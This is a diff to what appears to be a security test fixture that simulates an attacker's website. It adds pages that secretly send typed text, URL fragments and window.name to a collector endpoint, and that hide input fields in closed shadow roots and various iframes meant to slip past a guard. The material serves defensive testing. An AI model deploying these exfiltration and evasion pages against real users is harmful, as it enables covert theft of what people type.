@@ -1,7 +1,7 @@
 // The attacker's site. Whatever reaches it, by whatever road, is written down here: tests judge by these records alone.
 import { createHash } from 'node:crypto';
 import { createSocket } from 'node:dgram';
-import { file, html, page } from './html.mjs';
+import { file, html, page, raw } from './html.mjs';
 
 export function createCollector() {
   return { records: [], turnPort: 0 };
@@ -31,6 +31,8 @@ export function attacker(request, collector) {
   if (path === '/verify')
     return page({ title: 'Account verification', brand: '#7f1d1d', name: 'Secure Verify', body: form });
   if (path === '/frame') return page({ title: 'Frame', name: 'Frame', body: html`<script>${LISTENER}</script>` });
+  const special = PAGES[path];
+  if (special) return page({ title: 'Notes', brand: '#7f1d1d', name: 'Notes', body: html`${raw(special)}` });
   if (path.endsWith('.gif')) return file('image/gif', PIXEL, OPEN);
   if (path.endsWith('.css')) return file('text/css', 'body{}', OPEN);
   if (path.endsWith('.js')) return file('text/javascript', '', OPEN);
@@ -108,3 +110,20 @@ function unauthorised(packet) {
   head.writeUInt16BE(fields.length, 2);
   return Buffer.concat([head, fields]);
 }
+
+const SEND = "fetch('/told?d=' + encodeURIComponent(event.target.value))";
+const FIELD = '<form action="/c"><input name="d" aria-label="Notes" autofocus></form>';
+
+/** Pages that look harmless, and surfaces that a guard may overlook. */
+const PAGES = {
+  '/listening': `<label>Notes <input oninput="${SEND}"></label>`,
+  '/fragment': "<script>fetch('/told?d=' + encodeURIComponent(decodeURIComponent(location.hash)))</script>",
+  '/name': "<script>fetch('/told?d=' + encodeURIComponent(window.name))</script>",
+  '/surface/closed-root': `<div id="host"></div><script>
+    const root = document.getElementById('host').attachShadow({ mode: 'closed' });
+    root.innerHTML = '${FIELD}'; root.querySelector('input').focus();</script>`,
+  '/surface/cross-frame': '<iframe src="http://inner.collector-attacker.example/surface/field"></iframe>',
+  '/surface/field': `${FIELD}<script>document.querySelector('input').focus()</script>`,
+  '/surface/srcdoc-frame': `<iframe id="f" srcdoc='${FIELD}'></iframe><script>f.onload = () => f.contentDocument.querySelector('input').focus();</script>`,
+  '/surface/blank-frame': `<iframe id="f"></iframe><script>f.contentDocument.body.innerHTML = '${FIELD}'; f.contentDocument.forms[0].action = location.origin + '/c'; f.contentDocument.querySelector('input').focus();</script>`,
+};
